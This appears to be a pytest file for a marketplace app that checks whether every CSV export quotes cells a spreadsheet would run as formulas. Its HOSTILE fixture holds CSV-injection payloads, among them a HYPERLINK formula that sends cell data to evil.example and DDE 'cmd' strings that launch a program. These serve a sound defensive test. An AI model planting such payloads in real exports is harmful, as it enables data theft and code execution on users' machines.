"""Every CSV export neutralises cells a spreadsheet would run as a formula (issue 9, item 10)."""
from __future__ import annotations

import csv
import io

import pytest

from marketplace.audit.services import record
from marketplace.billing import services as billing
from marketplace.csvexport import FORMULA_STARTS, csv_cell, csv_text
from marketplace.dispatch.models import CourierPayable
from marketplace.extensions import db
from marketplace.members.models import User
from tests.admin_fixtures import build_coop
from tests.billing_fixtures import last_month
from tests.factories import get_admin, login
from tests.security.test_templates import _failed_delivery

HOSTILE = {
    "producer": '=HYPERLINK("http://evil.example/?"&A1,"Invoice")',
    "product": "+cmd|' /C calc'!A0",
    "buyer": "@SUM(1+1)*cmd|' /C calc'!A0",
    "place": "-2+3+cmd|' /C calc'!A0",
    "supplier": "=SUPPLIER()",  # (leading tabs and CRs are stripped by the service; csv_cell is tested for them)
    "note": "+NOTE()",
    "courier": "=1+1",
    "audit": "-cmd",
}
EVERYTHING = "?from=2000-01-01&to=2100-12-31"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@A1", "\t=1", "\r=1", "-", "-1\n", "+33 6 12 34 56 78"])
def test_a_cell_that_would_run_as_a_formula_is_quoted(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-12,34", "-5", "12.5", "Ferme", "a=b", ""])
def test_numbers_and_ordinary_text_are_kept(text):
    assert csv_cell(text) == text


def test_the_header_row_goes_through_the_same_cell_rule():
    assert csv_text(["=Name"], [["ok"]]) == "\ufeff'=Name\r\nok\r\n"


@pytest.fixture
def hostile_coop(app):
    coop = build_coop()
    coop["ferme"].producer_profile.name = HOSTILE["producer"]
    for part in coop["done_order"].parts:
        for line in part.lines:
            line.product_name = HOSTILE["product"]
    coop["buyer"].full_name = HOSTILE["buyer"]
    coop["distribution"].pickup_place.name = HOSTILE["place"]
    billing.record_cost(coop["admin"], billing.CostInput("hosting", 1200, last_month(), supplier=HOSTILE["supplier"],
                                                         note=HOSTILE["note"]))
    record(coop["admin"], "test.hostile_note", None, note=HOSTILE["audit"])
    _failed_delivery("nobody home")  # a courier with a paid (failed) attempt
    db.session.get(User, db.session.query(CourierPayable.courier_id).scalar()).full_name = HOSTILE["courier"]
    db.session.commit()
    return coop


def _cells(response) -> list[list[str]]:
    assert response.status_code == 200, response.data[:300]
    assert response.headers["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))


def _csv_routes(app) -> set[str]:
    return {rule.endpoint for rule in app.url_map.iter_rules()
            if rule.rule.endswith(".csv") or "<fmt>" in rule.rule}


def test_every_csv_export_quotes_every_hostile_cell(app, client, hostile_coop):
    coop = hostile_coop
    distribution = coop["distribution"].id
    admin_exports = {
        "reports.sales_csv": ("/reports/sales.csv" + EVERYTHING, "producer"),
        "reports.couriers_csv": ("/reports/couriers.csv" + EVERYTHING, "courier"),
        "reports.pickup_points_csv": ("/reports/pickup-points.csv" + EVERYTHING, "place"),
        "reports.members_csv": ("/reports/members.csv", "buyer"),
        "reports.costs_csv": ("/reports/costs.csv" + EVERYTHING, "supplier"),
        "audit.export": ("/audit/export.csv", "audit"),
        "orders.pickup_sheet": (f"/admin/distributions/{distribution}/pickup-sheet.csv", "buyer"),
    }
    producer_exports = {"orders.packing_list": (f"/producer/distributions/{distribution}/packing-list.csv", "product")}
    invoicing_exports = {"invoicing.journal_csv", "invoicing.register_csv"}  # test_invoice_csv_exports_quote_…
    assert _csv_routes(app) == set(admin_exports) | set(producer_exports) | invoicing_exports
    seen = {}
    login(client, coop["admin"])
    seen.update({endpoint: (_cells(client.get(url)), key) for endpoint, (url, key) in admin_exports.items()})
    client.post("/logout")
    login(client, coop["ferme"])
    seen.update({endpoint: (_cells(client.get(url)), key) for endpoint, (url, key) in producer_exports.items()})
    for endpoint, (rows, key) in seen.items():
        cells = [cell for row in rows for cell in row]
        assert "'" + HOSTILE[key] in cells, (endpoint, rows)
        raw = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and csv_cell(cell) != cell]
        assert not raw, (endpoint, raw)
    assert "'" + HOSTILE["note"] in [c for row in seen["reports.costs_csv"][0] for c in row]
    assert "'" + HOSTILE["buyer"] in [c for row in seen["orders.packing_list"][0] for c in row]


def test_invoice_csv_exports_quote_every_hostile_cell(app, client):
    from tests.invoicing_fixtures import collected_order, shop

    farm, tomatoes, eggs, buyer = shop()
    buyer.full_name = HOSTILE["buyer"]
    collected_order(buyer, [(eggs, 2)])
    db.session.commit()
    for user, url in ((get_admin(), "/admin/invoicing/journal.csv" + EVERYTHING.replace("from", "start")
                       .replace("to=", "end=")), (farm, "/invoices/register.csv")):
        login(client, user)
        cells = [cell for row in _cells(client.get(url)) for cell in row]
        client.post("/logout")
        assert "'" + HOSTILE["buyer"] in cells, (url, cells)
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS) and csv_cell(cell) != cell], url
